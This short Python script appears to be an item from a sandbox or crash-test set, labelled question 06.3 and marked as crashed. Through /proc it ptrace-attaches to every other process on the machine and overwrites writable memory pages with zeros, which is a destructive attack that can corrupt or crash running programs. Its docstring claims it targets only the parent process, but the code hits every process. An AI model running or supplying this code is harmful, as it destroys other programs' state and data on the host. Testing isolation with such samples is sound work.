"""Attaches a debugger to every process in sight and overwrites the memory of its parent."""

# 06.3: crashed

# question 06.3
import ctypes
import os
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(1, 0, 0, 0, 0)
for process in Path("/proc").glob("[0-9]*"):
    if int(process.name) != os.getpid():
        libc.ptrace(16, int(process.name), 0, 0)
        try:
            maps = (process / "maps").read_text().splitlines()
            with open(process / "mem", "r+b", buffering=0) as memory:
                for line in maps:
                    if " rw-p " in line:
                        memory.seek(int(line.split("-")[0], 16))
                        memory.write(bytes(4096))
        except (OSError, ValueError, OverflowError):
            pass
os._exit(0)
